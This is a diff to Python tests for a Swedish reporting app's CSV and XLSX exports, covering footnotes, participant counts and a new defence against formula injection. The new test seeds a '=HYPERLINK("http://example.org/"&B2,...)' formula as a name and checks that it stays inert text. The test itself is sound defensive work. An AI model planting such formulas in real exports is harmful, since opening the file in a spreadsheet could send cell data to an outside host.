@@ -17,6 +17,7 @@ from samverkan.auth.services import create_token
 from samverkan.core.audit import AuditEntry
 from samverkan.core.db import db
 from samverkan.rapporter.models import FinsamRegistrering, NyckeltalMal
+from samverkan.rapporter.tabell import FOTNOT
 from tests.api.helpers import Api
 
 Q1 = "period=2026-K1"
@@ -69,7 +70,9 @@ def test_a_ledamot_gets_no_report(facit, login):
 
 def test_csv_is_utf8_with_swedish_characters_and_hides_small_numbers(facit, login):
     client = login(facit.users["styrgrupp"])
-    assert _csv(client.get(f"/rapporter/period/export.csv?team={facit.team.id}&tabell=kon&{Q1}")) == KON_DOLD
+    # The footnote explaining "<3" and "–" follows the table (issue 17).
+    assert _csv(client.get(f"/rapporter/period/export.csv?team={facit.team.id}&tabell=kon&{Q1}")) == [
+        *KON_DOLD, [], [FOTNOT]]
     alla = _csv(client.get(f"/rapporter/period/export.csv?team={facit.team.id}&{Q1}"))
     text = "\n".join(";".join(r) for r in alla)
     for ord_ in ("Försäkringskassan", "Ålder", "Subventionerad anställning", "Sysselsättning före och efter"):
@@ -80,7 +83,7 @@ def test_csv_is_utf8_with_swedish_characters_and_hides_small_numbers(facit, logi
         if len(rad) == 1:
             sektion = rad[0]
             continue
-        if sektion != "Möten":
+        if sektion not in ("Möten", "Närvaro per part"):  # meetings, not people
             assert not {"1", "2"} & set(rad[1:]), (sektion, rad)
 
 
@@ -209,5 +212,24 @@ def test_finsam_reconciliation_for_the_projektledare_only(facit, login, client):
     saknas = pl.get(f"/rapporter/team/{facit.team.id}/finsam?visa=saknas").get_data(as_text=True)
     assert saknas.count('class="ruta finsam"') == 6
     rader = _csv(pl.get(f"/rapporter/team/{facit.team.id}/finsam.csv"))
-    assert rader[0][:4] == ["Referens", "Personnummer", "Kön", "Födelseår"] and len(rader) == 8
+    assert rader[0][:4] == ["Referens", "Personnummer", "Kön", "Födelseår"] and len(rader) == 8 + 3
+    # Issue 17: the export counts its participants, anonymous ones too.
+    assert rader[-2:] == [["Deltagare", "7"], ["Varav anonyma (utan personnummer)", "0"]]
     assert "finsam.export" in set(db.session.scalars(select(AuditEntry.handling)))
+
+
+def test_a_formula_typed_as_a_name_stays_text_in_csv_and_xlsx(facit, login):
+    # Issue 18 point 4: an insats type named like a formula must not run in Excel.
+    from samverkan.insatser.models import Insatstyp
+
+    namn = '=HYPERLINK("http://example.org/"&B2,"Klicka")'
+    db.session.add(Insatstyp(forbund_id=facit.forbund.id, kod="formel", namn=namn, ordning=99))
+    db.session.add(Insatstyp(forbund_id=facit.forbund.id, kod="plus", namn="+1 och @summa", ordning=100))
+    db.session.commit()
+    client = login(facit.users["projektledare"])
+    rader = _csv(client.get(f"/rapporter/period/export.csv?tabell=insatstyp&{Q1}"))
+    etiketter = [r[0] for r in rader]
+    assert "'" + namn in etiketter and "'+1 och @summa" in etiketter and namn not in etiketter
+    wb = load_workbook(io.BytesIO(client.get(f"/rapporter/period/export.xlsx?{Q1}").get_data()))
+    celler = [c for rad in wb["Insatstyp efter kön"].iter_rows() for c in rad if c.value == namn]
+    assert celler and all(c.data_type == "s" for c in celler)
